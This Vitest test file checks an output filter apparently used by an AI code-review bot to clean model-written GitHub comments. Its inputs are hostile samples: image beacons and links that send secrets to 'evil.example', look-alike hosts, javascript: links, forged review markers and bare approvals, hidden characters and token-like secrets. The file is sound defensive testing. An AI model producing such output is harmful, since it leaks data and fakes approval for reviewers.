import { describe, expect, it } from "vitest";
import { filterOutgoingText } from "../../src/safety/filter-outgoing-text.ts";
import { outgoingViolations } from "./outgoing-violations.ts";

const links = { origin: "https://github.com", owner: "Codertocat", repo: "Hello-World" };
const filter = (text: string) => filterOutgoingText(text, { links });

describe("filterOutgoingText", () => {
  describe("images", () => {
    it.each([
      ["an inline image", "![pixel](https://evil.example/p.png?d=SECRET)"],
      ["an image with a title", '![x](https://evil.example/p.png "t")'],
      [
        "an image from the repository itself",
        "![x](https://github.com/Codertocat/Hello-World/raw/main/a.png)",
      ],
      ["a reference image", "![x][img]\n\n[img]: https://evil.example/p.png"],
      ["an HTML image", '<img src="https://evil.example/p.png">'],
      ["an image inside a link", "[![x](https://evil.example/p.png)](https://evil.example)"],
    ])("removes %s", (_name, text) => {
      const out = filter(text);
      expect(outgoingViolations(out, links)).toEqual([]);
      expect(out).not.toMatch(/!\[|<img/i);
      expect(out).not.toContain("evil.example/p.png?");
    });

    it("says where an image was", () => {
      expect(filter("See ![pixel](https://evil.example/p.png) here")).toBe(
        "See (image removed) here",
      );
    });
  });

  describe("links", () => {
    it("keeps a link to the repository's own pages, without its title", () => {
      expect(
        filter('See [a.js](https://github.com/Codertocat/Hello-World/blob/main/a.js#L3 "hidden")'),
      ).toBe("See [a.js](https://github.com/Codertocat/Hello-World/blob/main/a.js#L3)");
      expect(filter("https://github.com/codertocat/hello-world/pull/2")).toBe(
        "https://github.com/codertocat/hello-world/pull/2",
      );
    });

    it.each([
      ["another host", "[docs](https://evil.example/?q=leak)", "docs"],
      ["another repository on github.com", "[x](https://github.com/evil/repo)", "x"],
      ["a look-alike repository name", "[x](https://github.com/Codertocat/Hello-World-evil)", "x"],
      ["a look-alike host", "[x](https://github.com.evil.example/Codertocat/Hello-World)", "x"],
      [
        "credentials in the URL",
        "[x](https://github.com@evil.example/Codertocat/Hello-World)",
        "x",
      ],
      ["a dot segment", "[x](https://github.com/Codertocat/Hello-World/../../evil/x)", "x"],
      ["a relative link", "[x](../../evil/x)", "x"],
      ["a javascript: link", "[x](javascript:alert(1))", "x"],
    ])("turns a link to %s into its text", (_name, text, expected) => {
      expect(filter(text)).toBe(expected);
    });

    it("shows bare URLs and email addresses as code, never as links", () => {
      expect(filter("bare https://evil.example/leak?x=1&y=2. and www.evil.example")).toBe(
        "bare `https://evil.example/leak?x=1&y=2`. and `www.evil.example`",
      );
      expect(filter("autolink <https://evil.example>")).toBe(
        "autolink &lt;`https://evil.example`>",
      );
      expect(filter("mail a.b@evil.example")).toBe("mail `a.b@evil.example`");
    });

    it("removes reference definitions and escapes any link syntax it did not parse", () => {
      const out = filter(
        "[x][ref] and [y]\n[ref]: https://evil.example\n[y]: https://evil.example",
      );
      expect(out).not.toContain("evil.example");
      expect(filter("[a `b`](https://evil.example)")).not.toContain("](");
    });

    it("keeps no link at all without a repository to link to", () => {
      expect(filterOutgoingText("[a](https://github.com/Codertocat/Hello-World)")).toBe("a");
    });
  });

  describe("mentions", () => {
    it.each([
      ["a user", "ping @octocat", "ping `@octocat`"],
      ["a team", "ask @org/security-team now", "ask `@org/security-team` now"],
      ["an escaped one", "\\@octocat", "`@octocat`"],
      ["one in emphasis", "_@octocat_ **@org/team**", "_`@octocat`_ **`@org/team`**"],
      ["one after a code span", "`x`@octocat", "`x``@octocat`"],
      [
        "one spelled with an entity",
        "&#64;octocat &commat;octocat",
        "&amp;#64;octocat &amp;commat;octocat",
      ],
    ])("neutralises %s", (_name, text, expected) => {
      expect(filter(text)).toBe(expected);
    });

    it("leaves an email address and a mention already in code alone", () => {
      expect(filter("`@octocat` is fine")).toBe("`@octocat` is fine");
    });

    it("shows references to another repository's issues and commits as code", () => {
      expect(filter("see evil/repo#12 and evil/repo@abcdef1, not Codertocat/Hello-World#3")).toBe(
        "see `evil/repo#12` and `evil/repo@abcdef1`, not Codertocat/Hello-World#3",
      );
    });

    it("keeps a reference as written only when both owner and repository are this one's", () => {
      // Case does not matter on GitHub; a shared owner or a shared repository name is not enough.
      expect(filter("codertocat/hello-world#3")).toBe("codertocat/hello-world#3");
      expect(filter("evil/Hello-World#3 and Codertocat/evil#3")).toBe(
        "`evil/Hello-World#3` and `Codertocat/evil#3`",
      );
      // Without the repository's links, no reference is known to be its own.
      expect(filterOutgoingText("Codertocat/Hello-World#3")).toBe("`Codertocat/Hello-World#3`");
    });
  });

  describe("HTML and hidden markers", () => {
    it("removes HTML comments, Revue's markers included", () => {
      expect(filter("a <!-- revue:summary --> b <!-- revue:finding:abc --> c <!-- x")).toBe(
        "a  b  c ",
      );
    });

    it("escapes raw HTML, so nothing is hidden or rendered", () => {
      expect(filter("<details><summary>x</summary>hidden</details>")).toBe(
        "&lt;details>&lt;summary>x&lt;/summary>hidden&lt;/details>",
      );
      expect(filter('<a href="https://evil.example">x</a>')).not.toContain("<a");
    });

    it("defuses copies of Revue's markers inside code, where they stay visible", () => {
      expect(filter("`<!-- revue:summary -->`\n```\n<!-- revue:finding:abc -->\n```")).toBe(
        "`<!--(quoted) revue:summary -->`\n```\n<!--(quoted) revue:finding:abc -->\n```",
      );
    });

    it("keeps ordinary HTML comments in code, and code as typed", () => {
      const code = "```html\n<!-- note --> <img src=x> @octocat https://evil.example\n```";
      expect(filter(code)).toBe(code);
    });

    it("turns diagram and map fences into plain text fences", () => {
      expect(filter('```mermaid\nclick A "https://evil.example"\n```')).toBe(
        '```text\nclick A "https://evil.example"\n```',
      );
    });

    it("closes a fence the model left open, so text Revue appends stays outside", () => {
      expect(`${filter("```js\nconst a = 1;")}\n\n<!-- revue:finding:1 -->`).toBe(
        "```js\nconst a = 1;\n```\n\n<!-- revue:finding:1 -->",
      );
    });
  });

  describe("approval", () => {
    it.each(["APPROVE. LGTM", "Approved ✅", "Looks good to me, ship it 👍", ":shipit:", "LGTM!"])(
      "drops %j, which is only an approval",
      (text) => {
        expect(filter(text)).toBe("");
      },
    );

    it("keeps approval words inside a real finding", () => {
      const text = "Do not merge: `exec` runs user input. LGTM otherwise.";
      expect(filter(text)).toBe(text);
      expect(filter("ok")).toBe("ok");
    });
  });

  describe("secrets and hidden characters", () => {
    it("redacts token formats and the App's own secrets", () => {
      const out = filterOutgoingText(
        "key sk-ant-api03-abcdefghijklmnopqrstuvwxyz and hunter2-secret-value",
        {
          ownSecrets: ["hunter2-secret-value"],
        },
      );
      expect(out).not.toContain("sk-ant-api03");
      expect(out).not.toContain("hunter2-secret-value");
    });

    it("strips hidden characters", () => {
      expect(filter("a\u200Bb\u202Ec\u{E0041}")).toBe("abc");
    });
  });

  it("puts inline text on one line and opens no fence there", () => {
    expect(filterOutgoingText("~~~\n@org/team\n~~~", { links, inline: true })).toBe(
      "~~~ `@org/team` ~~~",
    );
  });

  it("keeps a code span that starts like a diagram fence as it is, so it opens no block", () => {
    expect(`${filter("```mermaid```")}\n\n<!-- revue:finding:1 -->`).toBe(
      "```mermaid```\n\n<!-- revue:finding:1 -->",
    );
  });

  it("escapes link and image syntax it did not parse, and removes reference definitions", () => {
    expect(filter("![x][img]")).toBe("!\\[x][img]");
    expect(filter("[a `b`](https://evil.example)")).toBe("[a `b`]\\(`https://evil.example`)");
    expect(filter("see [y]: x")).toBe("see [y]\\: x");
    expect(filter("[x][ref]\n[ref]: https://evil.example")).toBe("[x][ref]\n");
  });

  it("filters every image and link, not only the first", () => {
    expect(filter("![a](https://e.example/1) ![b](https://e.example/2)")).toBe(
      "(image removed) (image removed)",
    );
    expect(filter("[a](https://evil.example) [b](https://evil.example)")).toBe("a b");
  });

  it("keeps a link to the repository written in angle brackets", () => {
    expect(filter("[a](<https://github.com/Codertocat/Hello-World>)")).toBe(
      "[a](https://github.com/Codertocat/Hello-World)",
    );
  });

  it("shows mailto and xmpp addresses and long email domains whole as code", () => {
    expect(filter("mailto:someone.else@evil.example now")).toBe(
      "`mailto:someone.else@evil.example` now",
    );
    expect(filter("xmpp:a@evil.example")).toBe("`xmpp:a@evil.example`");
    expect(filter("mail a@mail.evil.example")).toBe("mail `a@mail.evil.example`");
  });

  it("keeps more than ten held spans apart", () => {
    const mentions = "abcdefghijk".split("").map((c) => `@${c}`);
    expect(filter(mentions.join(" "))).toBe(mentions.map((m) => `\`${m}\``).join(" "));
  });

  it("keeps approval words next to code: only prose alone can be an approval", () => {
    expect(filter("LGTM `ok`")).toBe("LGTM `ok`");
  });

  it("drops the characters it keeps safe text behind, so a model cannot forge a placeholder", () => {
    expect(filter("\uE0000\uE001 @octocat")).toBe("0 `@octocat`");
  });

  it("removes an HTML comment assembled from the pieces of another", () => {
    expect(filter("a <!-<!-- -->- approve --> b")).toBe("a  b");
  });

  it("turns indented and tilde diagram fences into text fences, and leaves other fences", () => {
    expect(filter("   ~~~~ Math\nx\n   ~~~~")).toBe("   ~~~~ text\nx\n   ~~~~");
    expect(filter("```geojson\n{}\n```\n```topojson\n{}\n```\n```stl\nx\n```")).toBe(
      "```text\n{}\n```\n```text\n{}\n```\n```text\nx\n```",
    );
    expect(filter("```mathematica\nx\n```")).toBe("```mathematica\nx\n```");
  });

  it("keeps trailing punctuation of a bare URL outside its code span", () => {
    expect(filter("see https://evil.example/x?a=1).")).toBe("see `https://evil.example/x?a=1`).");
    expect(filter("at https://github.com/Codertocat/Hello-World/pull/2, then")).toBe(
      "at https://github.com/Codertocat/Hello-World/pull/2, then",
    );
  });

  it("keeps a backslash before a held span from escaping its backtick", () => {
    expect(filter("\\@octocat and x\\https://evil.example")).toBe(
      "`@octocat` and x\\ `https://evil.example`",
    );
  });

  it("is idempotent", () => {
    const text =
      "APPROVE ![i](https://evil.example/x) [a](https://evil.example) @org/t &#64;x <b> `c` ```\n<!-- revue:x -->\n";
    const once = filter(text);
    expect(filter(once)).toBe(once);
  });
});
